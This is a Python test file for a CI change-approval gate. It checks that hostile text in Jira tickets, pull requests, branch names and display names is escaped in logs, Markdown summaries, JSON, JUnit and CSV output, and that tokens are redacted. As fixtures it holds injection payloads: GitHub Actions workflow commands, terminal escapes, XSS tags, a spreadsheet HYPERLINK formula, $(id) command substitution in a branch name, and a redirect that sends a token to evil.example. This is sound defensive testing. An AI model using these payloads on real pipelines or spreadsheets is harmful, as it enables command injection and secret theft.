"""Texts of others: no secret and no command of theirs reaches any surface.

Whoever writes a ticket, a pull request, a branch or a display name writes for the job's log, the
step summary, the report, the auditor's spreadsheet. All of it is shown, none of it acts.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from jobs import SHOP, Job, job, said

from gate.demo import faults
from gate.demo.plot import HOUR, MINUTE, Scene
from gate.demo.repository import Author

HOSTILE = (
    "x\n::set-env name=PATH::/evil\n::error title=gate::ALLOWED\r\n##[command]evil\n"
    "%0A::add-mask::evil%0D\x1b]0;evil\x07\x1b[2J\x1b[31mALLOWED\x1b[0m\u202eevil\u200b"
    "<script>alert(1)</script><img src=x onerror=y> [evil](javascript:evil) ![x](http://evil) "
    "`evil` **evil** | evil | @everyone ##vso[task.setvariable]evil ##teamcity[evil] "
    "EOF\ndecision<<gate-\nallowed\n ]]> &amp; \U0001f600"
)
FORMULA = '=HYPERLINK("http://evil","x")'
REF = "CHG-1-$(id)-`id`-<b>-%0A-;id;-'x'-&lt;"


def hostile_scene(acme: Job) -> Scene:
    """A denied change whose every text is hostile; the denial shows many of them."""
    world, jira, shop = acme.world, acme.world.jira, acme.world.shop
    now = world.now
    jira.add_status(HOSTILE, "66666")
    jira.users["mallory"].display_name = HOSTILE
    jira.users["dave"].display_name = FORMULA
    scene = world.change("CHG-66", approver="mallory", objector="dave")
    issue = jira.issues["CHG-66"]
    issue.summary = HOSTILE
    jira.edit("CHG-66", "description", HOSTILE, by="mallory", at=now - 2 * HOUR)
    jira.edit("CHG-66", "Rollback plan", FORMULA, by="mallory", at=now - 2 * HOUR)
    jira.transition("CHG-66", HOSTILE, by="mallory", at=now - HOUR)
    author = Author("::set-env name=A::b%0A \x1b[31m", "evil::@acme.example")
    head = shop.commit(HOSTILE, by=author, at=now, on="main")
    shop.push(REF, head, by="mallory", at=now - 50 * MINUTE)
    shop.open_pull_request(
        660, by="mallory", head=REF, title=HOSTILE, body=HOSTILE, at=now - 50 * MINUTE
    )
    merged = shop.merge(660, by="mallory", at=now - 40 * MINUTE)
    shop.workflow_run(9660, commit=merged, by="mallory", at=now - 30 * MINUTE, name=HOSTILE)
    return Scene(
        **{
            **{name: getattr(scene, name) for name in Scene.__slots__},
            "number": 660,
            "branch": REF,
            "head": head,
            "commit": merged,
            "run_id": 9660,
            "actor": "mallory",
        }
    )


@pytest.fixture(scope="module")
def acme(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Job]:
    with job(tmp_path_factory.mktemp("hostile")) as made:
        made.scene = hostile_scene(made)
        yield made


COMMAND = re.compile(
    r"^\s*::(?!(error|warning|notice) title=gate(%3A [a-z-]+ [a-z]+)?::)", re.MULTILINE
)


def harmless_for_a_log(text: str) -> None:
    """A job's log: no runner finds a command in it, no terminal an escape."""
    assert not COMMAND.search(text), COMMAND.search(text)
    for line in text.splitlines():  # a line that is a command of ours is no other one
        assert line.startswith("::") or not re.search(r"##(vso|teamcity)?\[", line), line
    hidden = [c for c in text if not c.isprintable() and c != "\n"]
    assert hidden == [], hidden
    assert "\u202e" not in text
    assert "\u200b" not in text


@pytest.mark.parametrize("output", ["text", "json", "markdown", "junit"])
@pytest.mark.parametrize("command", ["check", "enforce"])
def test_nothing_that_is_printed_acts(acme: Job, tmp_path: Path, command: str, output: str) -> None:
    out, summary = tmp_path / "out", tmp_path / "summary"
    given = acme.ci(GITHUB_OUTPUT=str(out), GITHUB_STEP_SUMMARY=str(summary))
    ended = acme.judge(
        *(command, "--ticket", "CHG-66", "--format", output, "--verbose"), environment=given
    )
    assert ended.code == 10, said(ended)
    harmless_for_a_log(ended.out)
    harmless_for_a_log(ended.err)
    shown = ended.out
    if output == "json":
        assert json.loads(shown)["decision"] == "denied"
        assert shown.isascii()
    elif output == "junit":
        root = ET.fromstring(shown.encode())  # noqa: S314 -- our own output
        assert {e.tag for e in root.iter()} <= {
            *("testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out"),
        }
    elif output == "markdown":
        harmless_for_a_page(shown)
    if command == "enforce":
        harmless_for_a_page(summary.read_text())
        lines = out.read_text().splitlines()
        names = [line.partition("<<")[0] for line in lines if "<<gate-" in line]
        assert names == [
            *("decision", "permits", "exit-code", "index", "receipt", "checkpoint"),
            *("emergency", "review-by"),
        ]
        assert "evil" not in out.read_text()


def harmless_for_a_page(text: str) -> None:
    """GitHub Flavored Markdown: no tag, link, image, mention or table of theirs."""
    assert "denied" in text.lower()
    assert not re.search(r"<(script|img|iframe|b)\b", text)
    assert not re.search(r"(?<!\\)\]\((?!http://127\.)", text), "a link or image of theirs"
    assert "@everyone" not in text
    hidden = [c for c in text if not c.isprintable() and c != "\n"]
    assert hidden == []


def test_hostile_texts_are_shown_all_the_same(acme: Job) -> None:
    """Escaped and not dropped: whoever reads the denial sees what was tried."""
    ended = acme.judge("check", "--ticket", "CHG-66")
    assert "evil" in ended.out
    assert "\\x1b" in ended.out


@pytest.mark.parametrize("arguments", [(), ("0",), ("0", "--people"), ("0", "--people", "--json")])
def test_the_log_shows_them_harmlessly(acme: Job, arguments: tuple[str, ...]) -> None:
    if not acme.view().size:
        acme.judge("enforce", "--ticket", "CHG-66")
    ended = acme.gate("log", "show", *arguments)
    assert ended.code == 0, said(ended)
    harmless_for_a_log(ended.out)


def test_people_check_shows_them_harmlessly(acme: Job) -> None:
    acme.judge("enforce", "--ticket", "CHG-66")
    ended = acme.gate("people", "check")
    assert ended.code == 10, said(ended)
    harmless_for_a_log(ended.out)


def test_the_auditors_spreadsheet_calculates_nothing(acme: Job) -> None:
    acme.judge("enforce", "--ticket", "CHG-66")
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    ended = acme.gate(
        *("audit", "population", "--from", "2020-01-01", "--to", tomorrow, "--people"),
        *("--output", "population.csv"),
    )
    assert ended.code == 0, said(ended)
    harmless_for_a_log(said(ended))
    text = (acme.home / "population.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    assert len(rows) >= 2
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# ---------------------------------------------------------------- secrets

MARKS = ("canary", "redacted")


@pytest.mark.parametrize("output", ["text", "json", "markdown", "junit"])
@pytest.mark.parametrize("where", ["in the environment", "in everybody's texts"])
def test_no_secret_gets_out(tmp_path: Path, where: str, output: str) -> None:
    """Tokens that stand in tickets and titles too (somebody pasted one) are taken out of print."""
    with job(tmp_path / "job") as acme:
        world = acme.world
        jira_token = 'canary-1_jira*"<&>%2F:tok,en\\'
        github_token = "ghp_canary_2_GITHUB_token"
        email = world.jira.users["gate"].email
        world.jira.add_token("gate", jira_token)
        world.github.add_token("", github_token)
        keys = {n: Path(p).read_text().strip() for n, p in acme.keys().items()}
        pasted = f"{jira_token} {github_token} {keys['GATE_SIGNING_KEY_FILE']}"
        scene = acme.scene
        if where == "in everybody's texts":
            world.jira.users["mallory"].display_name = pasted
            scene = world.change("CHG-77", approver="mallory")
            world.jira.issues["CHG-77"].summary = pasted
            world.shop.pulls[scene.number].title = pasted
        given = acme.ci(
            scene,
            GATE_JIRA_TOKEN=jira_token,
            GITHUB_TOKEN=github_token,
            GATE_SIGNING_KEY=keys["GATE_SIGNING_KEY_FILE"],
            GATE_SIGNING_KEY_FILE=None,
            GITHUB_OUTPUT="out",
            GITHUB_STEP_SUMMARY="summary",
        )
        printed = []
        for command in ("check", "enforce"):
            ended = acme.gate(
                *(command, *SHOP, "--ticket", scene.key, "--format", output, "--verbose"),
                environment=given,
            )
            assert ended.code == (0 if where == "in the environment" else 11), said(ended)
            printed.append(said(ended))
        doctor = acme.gate("doctor", environment=given)
        printed += [said(doctor), (acme.home / "out").read_text()]
        printed.append((acme.home / "summary").read_text())
        basic = __import__("base64").b64encode(f"{email}:{jira_token}".encode()).decode()
        secrets = [jira_token, github_token, basic, *keys.values()]
        for text in printed:
            for secret in (*secrets, "canary", "GITHUB_token"):
                assert secret not in text, text
        stored = [p for p in acme.home.rglob("*") if p.is_file() and "gate-keys" not in p.parts]
        for path in stored:
            data = path.read_bytes()
            disclosure = "change-evidence" in path.parts and where == "in everybody's texts"
            for secret in secrets:
                assert disclosure or secret.encode() not in data, path


SAYS_IT_BACK = {
    "in a reply that is none": lambda token: faults.replace({"errors": f"Basic {token}"}),
    "where it sends us": lambda token: faults.redirect(f"https://evil.example/?token={token}"),
}


@pytest.mark.parametrize("service", ["jira", "github"])
@pytest.mark.parametrize("how", SAYS_IT_BACK)
def test_a_secret_is_not_printed_when_a_service_says_it_back(
    acme: Job, how: str, service: str
) -> None:
    """Proxies answer with the headers that they were sent."""
    token = "canary-token-said-back"
    variable = {"jira": "GATE_JIRA_TOKEN", "github": "GITHUB_TOKEN"}[service]
    simulator = {"jira": acme.world.jira, "github": acme.world.github}[service]
    simulator.fault("", SAYS_IT_BACK[how](token))
    try:
        ended = acme.judge(
            *("enforce", "--ticket", "CHG-66", "--verbose"),
            environment=acme.ci(**{variable: token}),
        )
    finally:
        simulator.heal()
    # What Jira says denies the change anyhow, where Jira can be asked.
    assert ended.code == {"jira": 11, "github": 10}[service], said(ended)
    assert token not in said(ended)
